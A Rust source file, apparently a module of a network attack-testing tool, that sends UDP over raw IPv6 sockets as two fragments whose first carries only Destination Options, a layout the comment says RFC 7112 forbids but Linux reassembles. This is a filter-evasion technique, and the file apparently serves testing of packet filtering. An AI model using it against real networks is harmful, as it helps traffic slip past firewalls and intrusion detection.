//! UDP over IPv6 in two fragments, of which the first carries eight bytes of Destination Options and nothing else: RFC 7112
//! forbids it, and Linux puts it together all the same.

use std::{
    io,
    net::SocketAddrV6,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
};

use crate::{
    attack::run::another,
    frame::{UDP, other, udp},
};

const DESTINATION_OPTIONS: u8 = 60;

/// A raw socket that takes whole packets.
#[derive(Debug)]
pub(super) struct Fragments(OwnedFd);

impl Fragments {
    pub(super) fn new() -> io::Result<Self> {
        // SAFETY: no pointers.
        let socket =
            unsafe { libc::socket(libc::AF_INET6, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW) };
        if socket < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: the kernel has just made it, and nobody else has it.
        Ok(Self(unsafe { OwnedFd::from_raw_fd(socket) }))
    }

    pub(super) fn send(&self, from: SocketAddrV6, to: SocketAddrV6, payload: &[u8]) -> io::Result<()> {
        for packet in packets(from, to, payload, another() as u32) {
            self.send_packet(to, &packet)?;
        }
        Ok(())
    }

    fn send_packet(&self, to: SocketAddrV6, packet: &[u8]) -> io::Result<()> {
        let address = libc::sockaddr_in6 {
            sin6_family: libc::AF_INET6 as libc::sa_family_t,
            sin6_port: 0,
            sin6_flowinfo: 0,
            sin6_addr: libc::in6_addr { s6_addr: to.ip().octets() },
            sin6_scope_id: 0,
        };
        let length = size_of_val(&address) as libc::socklen_t;
        // SAFETY: a packet and an address, each of the given length, which outlive the call.
        let sent = unsafe {
            libc::sendto(
                self.0.as_raw_fd(),
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const address).cast(),
                length,
            )
        };
        if sent < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
    }
}

fn packets(from: SocketAddrV6, to: SocketAddrV6, payload: &[u8], id: u32) -> [Vec<u8>; 2] {
    let (from, to) = (from.into(), to.into());
    let datagram = udp().between(from, to).carrying(payload).checksummed().ip_payload();
    let whole = [&options(DESTINATION_OPTIONS)[..], &options(UDP), &datagram].concat();
    let (first, rest) = whole.split_at(8);
    let fragment = |offset: u16, more: bool, part: &[u8]| {
        other(DESTINATION_OPTIONS).between(from, to).carrying(part).fragment(id, offset, more).packet()
    };
    [fragment(0, true, first), fragment(8, false, rest)]
}

/// Destination Options with four bytes of padding.
const fn options(next: u8) -> [u8; 8] {
    [next, 0, 1, 4, 0, 0, 0, 0]
}
